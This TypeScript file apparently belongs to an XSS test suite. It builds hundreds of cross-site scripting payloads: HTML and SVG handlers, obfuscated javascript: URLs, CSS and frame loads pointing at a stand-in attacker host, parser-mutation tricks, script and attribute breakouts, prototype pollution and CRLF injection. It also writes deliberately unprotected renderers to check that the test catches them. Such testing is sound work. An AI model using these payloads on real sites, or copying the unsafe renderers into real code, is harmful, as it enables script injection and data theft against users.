/** Host to which payloads send stolen data. */
export const ATTACKER_HOST = 'thief.example'

/**
 * One kind of attack. ID in its payloads is replaced by a number that identifies the payload when it runs.
 * `unguarded` is a page without any protection that executes it: it verifies that the test would detect the
 * attack.
 */
type Family = { name: string; payloads: string[]; unguarded: (payload: string) => string }

const js = ['hit(ID)', 'hit`ID`', 'top.hit(ID)', 'alert(ID)']
const attacker = `//${ATTACKER_HOST}/ID`
const runs = ['<img src=x onerror=hit(ID)>', '<svg onload=hit(ID)>', '<script>hit(ID)</script>']
const times = <A, B>(
  some: readonly A[],
  others: readonly B[],
  make: (one: A, other: B) => string,
): string[] => some.flatMap((one) => others.map((other) => make(one, other)))
const page = (body: string, head = '') =>
  `<!doctype html><html><head><meta charset="utf-8">${head}</head><body>${body}</body></html>`
const entities = (text: string) => text.replace(/[a-z]/g, (one) => `&#${one.charCodeAt(0)};`)
const mixed = (text: string) =>
  text.replace(/[a-z]/gi, (one, at: number) => (at % 2 ? one.toUpperCase() : one.toLowerCase()))
const attribute = (text: string) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;')

const autoExecuting = [
  'img src=x onerror',
  'video src=x onerror',
  'audio src=x onerror',
  'body onload',
  'details open ontoggle',
  'input autofocus onfocus',
  'select autofocus onfocus',
  'textarea autofocus onfocus',
  'style onload',
  'iframe onload',
  'object data=x onerror',
  'link rel=stylesheet href=x onerror',
  'b tabindex=1 autofocus onfocus',
]
const spellings: ((start: string, code: string) => string)[] = [
  (start, code) => `<${start}=${code}>`,
  (start, code) => `<${start}="${code}">x`,
  (start, code) => `<${start}='${code}'//>`,
  (start, code) => `<${mixed(start)}=${code}>`,
  (start, code) => `<${start.replaceAll(' ', '/')}=${code}>`,
  (start, code) => `<${start.replaceAll(' ', '\n')} =\t${code}>`,
  (start, code) => `<${start}=${entities(code)}>`,
  (start, code) => `x<${start}=${code} <p>`,
]
const html = [
  ...times(autoExecuting, spellings, (start, spell) => spell(start, 'hit(ID)')),
  ...times(
    js,
    ['script', 'SCRIPT', 'script/x', 'script type=module', 'script\n'],
    (code, tag) => `<${tag}>${code}</script>`,
  ),
  `<script src=${attacker}></script>`,
  `<script src="https:${attacker}" async>`,
  `<script type=importmap>{"imports":{"a":"https:${attacker}"}}</script><script type=module>import "a"</script>`,
]

const vector = [
  ...times(
    [
      'svg onload=',
      'svg><animate attributeName=x dur=1s onbegin=',
      'svg><set attributeName=x onbegin=',
      'svg><animateTransform attributeName=transform dur=1s onbegin=',
      'svg><image href=x onerror=',
      'svg><foreignObject><img src=x onerror=',
      'svg><g/onload=',
      'math><annotation-xml encoding=text/html><img src=x onerror=',
      'svg><discard onbegin=',
    ],
    js.slice(0, 3),
    (start, code) => `<${start}${code}>`,
  ),
  ...times(js, ['svg', 'math', 'SvG', 'svg><desc'], (code, tag) => `<${tag}><script>${code}</script>`),
  `<svg><script href=${attacker} /></svg>`,
  `<svg><image href=https:${attacker}>`,
  `<svg><use href="https:${attacker}#a">`,
  `<svg><feImage href=https:${attacker}>`,
  '<svg><style><img src=x onerror=hit(ID)></style>',
  '<svg><title><img src=x onerror=hit(ID)></title>',
  '<svg><a href="javascript:hit(ID)"><text y=20>press</text></a>',
  '<svg><a><animate attributeName=href values=javascript:hit(ID) /><text y=20>press</text></a>',
  '<math href="javascript:hit(ID)">press</math>',
  '<math><maction actiontype=statusline xlink:href=javascript:hit(ID)>press',
]

const aims = [
  'javascript:hit(ID)',
  'JaVaScRiPt:hit(ID)',
  'javascript&colon;hit(ID)',
  '&#106;avascript:hit(ID)',
  'java&Tab;script:hit(ID)',
  '\u0001javascript:hit(ID)',
  'data:text/html,<script>top.hit(ID)</script>',
  'vbscript:hit(ID)',
  attacker,
  `https:${attacker}.png`,
]
const markdown = [
  ...times(
    aims,
    [
      '[press](URL)',
      '[press](<URL>)',
      '![press](URL)',
      '[press]: URL\n\n[press]',
      '<URL>',
      '[![press](URL)](URL)',
      '| [press](URL) |\n|-|',
    ],
    (aim, form) => form.replaceAll('URL', () => aim),
  ),
  ...runs.flatMap((run) => [
    `words\n\n${run}\n\nmore`,
    `- item ${run}`,
    `> ${run}`,
    `\`\`\`${run}\n\`\`\`\n${run}`,
    `[press](/x "${run.replaceAll('"', "'")}")`,
    `![${run}](x)`,
  ]),
]
/** A naive Markdown renderer based on a regular expression. */
const naiveMarkdown = (text: string) =>
  text
    .replace(/!\[([^\]]*)\]\(<?([^)>]*)>?\)/g, '<img alt="$1" src="$2">')
    .replace(/\[((?:[^[\]]|<[^>]*>)*)\]\(<?([^)]*?)>?\)/g, '<a href="$2">$1</a>')

const plainScript = 'javascript:hit(ID)'
const address = [
  ...js.map((code) => `javascript:${code}`),
  plainScript.replace('javascript', mixed),
  ` ${plainScript}`,
  `java\tscript:hit(ID)`,
  `java\nscript:hit(ID)`,
  `java\rscript:hit(ID)`,
  ...['\u0001', '\u0008', '\u001f', '\u00a0', '\ufeff', '\u200b', '\t', '\n'].map(
    (before) => before + plainScript,
  ),
  entities(plainScript),
  plainScript.replace('j', '&#x6A;'),
  plainScript.replace('j', '&#0000106'),
  plainScript.replace('a', '&Tab;a'),
  plainScript.replace('s', '&NewLine;s'),
  plainScript.replace(':', '&colon;'),
  plainScript.replace(':', '&#58;'),
  plainScript.replace('j', '%6A'),
  plainScript.replace(':', '%3A'),
  'javascript://%0Ahit(ID)',
  `javascript:${attacker}/%0Ahit(ID)`,
  'javascript:/*/*/hit(ID)',
  'javascript:void(hit(ID))',
  "javascript:'<script>top.hit(ID)</script>'",
  'view-source:javascript:hit(ID)',
  'feed:javascript:hit(ID)',
  'jar:javascript:hit(ID)!/',
  'livescript:hit(ID)',
  'mocha:hit(ID)',
  'data:text/html,<script>top.hit(ID)</script>',
  'data:text/html;base64,PHNjcmlwdD50b3AuaGl0KElEKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="top.hit(ID)"/>',
  'data:application/xhtml+xml,<x:script xmlns:x="http://www.w3.org/1999/xhtml">top.hit(ID)</x:script>',
  'data:,hit(ID)',
  'vbscript:hit(ID)',
  'blob:https://thief.example/ID',
  'filesystem:https://thief.example/ID',
  attacker,
  `///${ATTACKER_HOST}/ID`,
  `\\\\${ATTACKER_HOST}/ID`,
  `/\\${ATTACKER_HOST}/ID`,
  `/\t/${ATTACKER_HOST}/ID`,
  `https:${ATTACKER_HOST}/ID`,
  `https:/${ATTACKER_HOST}/ID`,
  `https://a@${ATTACKER_HOST}/ID`,
  `https://x%40${ATTACKER_HOST}/ID`,
  `https:${attacker}"onfocus="hit(ID)"autofocus="`,
  `https:${attacker}'onfocus='hit(ID)`,
  `http://${ATTACKER_HOST}:80/ID`,
  `ftp:${attacker}`,
]

const properties = [
  'background',
  'background-image',
  'list-style-image',
  'border-image',
  'cursor',
  'content',
  'mask-image',
  'filter',
]
const style = [
  ...times(
    properties,
    [
      'red;PROP:url(URL)',
      '<p style="PROP:url(URL)">x</p>',
      '</style><style>*{PROP:url(URL)}</style>',
      'red}*{PROP:url(URL)}',
      '";PROP:url(URL);"',
      "red;PROP:url('URL');x:",
    ],
    (property, form) => form.replace('PROP', property).replace('URL', `https:${attacker}`),
  ),
  `red;}@import "https:${attacker}";`,
  `<style>@import url(https:${attacker});</style>`,
  `<style>@font-face{font-family:x;src:url(https:${attacker})}*{font-family:x}</style>`,
  `red;background:image-set("https:${attacker}" 1x)`,
  'red;background:expression(hit(ID))',
  'red;behavior:url(#hit(ID))',
  'red;-moz-binding:url(//thief.example/ID)',
  ...runs.map((run) => `red}</style>${run}`),
  `\\3c/style>${runs[0]}`,
]

const frames = [
  '<iframe srcdoc="<script>top.hit(ID)</script>"></iframe>',
  "<iframe srcdoc='&lt;script&gt;top.hit(ID)&lt;/script&gt;'></iframe>",
  '<iframe srcdoc=&lt;img/src=x/onerror=top.hit(ID)&gt;></iframe>',
  '<iframe src=javascript:top.hit(ID)></iframe>',
  '<iframe src="data:text/html,<script>top.hit(ID)</script>"></iframe>',
  '<object data=javascript:top.hit(ID)></object>',
  '<embed src=javascript:top.hit(ID)>',
  '<meta http-equiv=refresh content="0;url=javascript:hit(ID)">',
  '<form action=javascript:hit(ID)><button>press</button></form>',
  '<form><button formaction=javascript:hit(ID)>press</button></form>',
]
const fetching = [
  'iframe src=U',
  'object data=U',
  'embed src=U',
  'meta http-equiv=refresh content=0;url=U',
  'link rel=stylesheet href=U',
  'link rel=preload as=image href=U',
  'link rel=prefetch href=U',
  'link rel=icon href=U',
  'link rel=manifest href=U',
  'video poster=U',
  'video src=U autoplay',
  'audio src=U autoplay',
  'img src=U',
  'img srcset=U',
  'picture><source srcset=U><img',
  'input type=image src=U',
  'body background=U',
  'table background=U',
  'base href=U',
  'form action=U><input name=password',
  'a href=x ping=U>press</a',
  'video><track default src=U',
  'portal src=U',
  'script src=U></script',
  'img dynsrc=U lowsrc=U',
]
const frame = [
  ...frames,
  ...frames.slice(0, 5).map((one) => one.replace(/^<[^=]+/, mixed)),
  ...times(fetching, [`https:${attacker}`, attacker], (tag, url) => `<${tag.replace('U', url)}>`),
]

const around = [
  '<noscript><p title="</noscript>RUN">',
  '<template>RUN</template>RUN',
  '<math><mtext><table><mglyph><style><!--</style>RUN',
  '<svg></p><style><a id="</style>RUN">',
  '<form><math><mtext></form><form><mglyph><style></math>RUN',
  '<!-->RUN-->',
  '<!--->RUN',
  '<!-- --!>RUN -->',
  '<![CDATA[>RUN]]>',
  '<?xml >RUN ?>',
  '<xmp><p title="</xmp>RUN">',
  '<textarea><p title="</textarea>RUN">',
  '<title><p title="</title>RUN">',
  '<select><option><style></option></select></style>RUN',
  '<table><tr><td>RUN',
  '<noembed><p title="</noembed>RUN">',
  '<iframe><p title="</iframe>RUN">',
  '<style><p title="</style>RUN">',
  '</p></div></main></body>RUN',
  '<a id="><b title="RUN">RUN</b></a>',
  '<svg><desc><![CDATA[</desc>RUN]]>',
  '<math><annotation-xml><style><p title="</style>RUN">',
]
const mutation = [
  ...times(around, runs, (form, run) => form.replaceAll('RUN', () => run)),
  "{{constructor.constructor('hit(ID)')()}}",
  '${hit(ID)}',
  '<%= hit(ID) %>',
  '#{hit(ID)}',
  '[[${hit(ID)}]]',
  '{{= hit(ID) }}',
  '<x-y is=z v-on:click=hit(ID) ng-app ng-init=hit(ID)>',
]

const breakOut = times(
  ['"', "'", '`', ' ', '&quot;', '\\"', '">', "'>"],
  [
    ' autofocus onfocus=hit(ID) x=',
    ' onpointerenter=hit(ID) x=',
    '><img src=x onerror=hit(ID)>',
    '><svg/onload=hit(ID)>',
    '><script>hit(ID)</script>',
    ' style="background:url(//thief.example/ID)',
    ' srcdoc="<script>top.hit(ID)</script>',
    ' src=x onerror=hit(ID) ',
  ],
  (quote, rest) => quote + rest,
)

const state = [
  ...times(
    [
      '</script>',
      '</SCRIPT >',
      '</script/x>',
      ']]></script>',
      '<!--<script>x</script></script>',
      '"</script>',
      '\\u003c/script>',
      '\\"</script>',
    ],
    runs,
    (end, run) => end + run,
  ),
  ...times(
    ['\u2028', '\u2029', '"};', '"}];', "';", '${', '*/', '\\', '\r\n'],
    ['hit(ID)//', 'hit(ID);"'],
    (end, rest) => end + rest,
  ),
  '{"__proto__":{"polluted":ID}}',
  '{"constructor":{"prototype":{"polluted":ID}}}',
  '__proto__[polluted]=ID',
  '__proto__.ID',
  'constructor.ID',
  'toString ID',
  '<!--<script>ID',
  '<script>ID<!--',
]
/** Runs in the unprotected page: deep-merges JSON into an object, without checks of keys. */
const merge =
  'const merge=(to,from)=>{for(const k in from)typeof ' +
  'from[k]==="object"?merge(to[k]??={},from[k]):to[k]=from[k]};' +
  'try{merge({},JSON.parse(state.value))}catch{};if({}.polluted)hit({}.polluted)'

const toast = times(
  ['\n', '\\n', '<br>', '<br/>', '<BR />', '<br\n>', '<br class="x">'],
  [
    ...runs,
    '<br autofocus tabindex=1 onfocus=hit(ID)>',
    '<a href=javascript:hit(ID)>press</a>',
    '<br style="background:url(//thief.example/ID)">',
  ],
  (end, rest) => `Ready${end}${rest}`,
)
const calendar = times(
  ['\r\n', '\n', '\r', '\\n', '\u2028', '\u0085', '\r\n ', '\\;'],
  [
    'ATTACH:https://thief.example/ID',
    'BEGIN:VALARM;X=ID',
    'URL:javascript:hit(ID)',
    'END:VEVENT;X=ID',
    'ORGANIZER:mailto:ID@thief.example',
    'Set-Cookie: a=ID',
    `Content-Type: text/html\r\n\r\n${runs[0]}`,
  ],
  (end, line) => `Cut${end}${line}`,
)
/** A calendar without escaping whose URLs are requested. */
const openCalendar = (text: string) =>
  `SUMMARY:${text}`
    .split(/\r\n|\r|\n/)
    .flatMap((line) =>
      /^(?:ATTACH|URL):(.+)/.exec(line)?.[1]
        ? [`<iframe src="${attribute(/:(.+)/.exec(line)?.[1] ?? '')}"></iframe>`]
        : [],
    )
    .join('')

const encodings: ((run: string) => string)[] = [
  (run) => run.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (run) => run.replaceAll('<', '&#60;'),
  (run) => run.replaceAll('<', '&#x3c;'),
  (run) => run.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (run) => run.replaceAll('<', '＜').replaceAll('>', '＞'),
  (run) => run.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (run) => run.replaceAll('<', '\\x3c'),
  (run) => run.replaceAll('<', '\\u003c'),
  (run) => encodeURI(run),
  (run) => run.replaceAll('<', '%C0%BC'),
  (run) => `{0, plural, other {${run}}}`,
  (run) => `<0>${run}</0>`,
  (run) => `{name, select, other {${run}}} '{`,
  (run) => `Hej ${run} {firstname}`,
  (run) => `‮${run}‬`,
  (run) => run.replaceAll('<', '<\u200b'),
]
const translated = times(encodings, runs, (encode, run) => encode(run))
/** Text that is decoded once too often. */
const decoded = (text: string) =>
  text
    .replaceAll('&amp;', '&')
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll(/&#(?:60|x3c);/g, '<')

const video = [
  ...[
    'www.youtube.com@thief.example/ID/watch?v=aqz-KE_bpKQ',
    'thief.example/ID/www.youtube.com/watch?v=aqz-KE_bpKQ',
    'youtube.com.thief.example/watch?v=aqz-KE_bpKQ&x=ID',
    'www.youtube.com\\@thief.example/ID',
    'vimeo.com@thief.example/ID',
    'vimeo.com.thief.example/76979871?ID',
    'player.vimeo.com.thief.example/video/76979871?ID',
    'thief.example/ID?vimeo.com/76979871',
    'vimeo.com:443@thief.example/ID',
    'thief.example/ID#youtu.be/aqz-KE_bpKQ',
  ].flatMap((rest) => [`https://${rest}`, `//${rest}`]),
  'javascript:top.hit(ID)//youtube.com/watch?v=aqz-KE_bpKQ',
  'javascript:top.hit(ID)//vimeo.com/76979871',
  'data:text/html,<script>top.hit(ID)</script>https://youtu.be/aqz-KE_bpKQ',
  'https://youtu.be/"onload="hit(ID)',
  'https://vimeo.com/76979871"><script>hit(ID)</script>',
  "https://www.youtube.com/watch?v=aqz-KE_bpKQ'><img src=x onerror=hit(ID)>",
  'https://www.youtube.com/watch?v="><svg onload=hit(ID)>',
  'https://vimeo.com/76979871" srcdoc="<script>top.hit(ID)</script>',
  'https://youtu.be/../../redirect?q=https://thief.example/ID',
  'https://www.youtube.com/redirect?q=https://thief.example/ID&v=aqz-KE_bpKQ',
]
const head = [
  ...times(
    [
      '</title>',
      '"><',
      '--></title>',
      '</style>',
      "'>",
      '"/>',
      '</head><body>',
      '<!--></title>',
      '"}</script>',
      '\\"}</script>',
    ],
    runs,
    (end, run) => end + run.replace(/^</, end.endsWith('<') ? '' : '<'),
  ),
  '" http-equiv=refresh content="0;url=//thief.example/ID"',
  '</title><meta http-equiv=refresh content="0;url=//thief.example/ID">',
  '</title><base href=//thief.example/ID/>',
  '</title><link rel=stylesheet href=//thief.example/ID>',
  '" onload=hit(ID) x="',
]

const kinds: Family[] = [
  { name: 'tags and handlers', payloads: html, unguarded: page },
  { name: 'SVG and MathML', payloads: vector, unguarded: page },
  { name: 'Markdown', payloads: markdown, unguarded: (text) => page(naiveMarkdown(text)) },
  {
    name: 'addresses',
    payloads: address,
    unguarded: (text) =>
      page(
        `<a id="press" href="${text.replaceAll('"', '&quot;')}">press</a><iframe ` +
          `src="${text.replaceAll('"', '&quot;')}"></iframe>`,
      ),
  },
  {
    name: 'style sheets',
    payloads: style,
    unguarded: (text) =>
      page(`<p style="color:${attribute(text)}">x</p>${text}`, `<style>p{color:${text}}</style>`),
  },
  { name: 'frames and fetches', payloads: frame, unguarded: page },
  { name: 'templates and mutations', payloads: mutation, unguarded: page },
  {
    name: 'attributes',
    payloads: breakOut,
    unguarded: (text) => page(`<input value="${text}"><input value='${text}'><img alt=${text}>`),
  },
  {
    name: 'state of scripts',
    payloads: state,
    unguarded: (text) =>
      page(
        '',
        `<script>window.state=${JSON.stringify({ value: text })};${merge}</script>` +
          `<script>window.other='${text}'</script>`,
      ),
  },
  { name: 'toasts', payloads: toast, unguarded: (text) => page(text.replace(/\\n|\n/g, '<br>')) },
  { name: 'calendars and headers', payloads: calendar, unguarded: (text) => page(openCalendar(text)) },
  { name: 'translated words', payloads: translated, unguarded: (text) => page(decoded(text)) },
  { name: 'video links', payloads: video, unguarded: (text) => page(`<iframe src="${text}"></iframe>`) },
  {
    name: 'heads of pages',
    payloads: head,
    unguarded: (text) =>
      page(
        '',
        `<title>${text}</title><meta property="og:title" content="${text}"><script ` +
          `type="application/ld+json">{"name":"${text}"}</script>`,
      ),
  },
]

const first = new Map(
  kinds.toReversed().flatMap(({ name, payloads }) => payloads.map((payload) => [payload, name] as const)),
)
/** All kinds of attacks; a payload that two of them have belongs to the first. */
export const families: Family[] = kinds.map((one) => ({
  ...one,
  payloads: [...new Set(one.payloads)].filter((payload) => first.get(payload) === one.name),
}))

/** The payload with its number. A base64 payload has room for an id of 6 digits. */
export const numbered = (payload: string, id: number): string =>
  payload
    .replace(
      /(base64,)([\w+/=]+)/,
      (_, start: string, coded: string) =>
        start + Buffer.from(atob(coded).replaceAll('ID', String(id))).toString('base64'),
    )
    .replaceAll('ID', String(id))

/** The payloads' ids (6 digits) in a text, also in base64. */
export const numbersIn = (text: string): number[] => {
  const within = [...text.matchAll(/text\/html;base64,([\w+/=]+)/g)].map(([, coded = '']) =>
    Buffer.from(coded, 'base64').toString('latin1'),
  )
  return [text, ...within].flatMap((one) =>
    [...one.matchAll(/(?<!\d)\d{6}(?!\d)/g)].map(([number]) => Number(number)),
  )
}
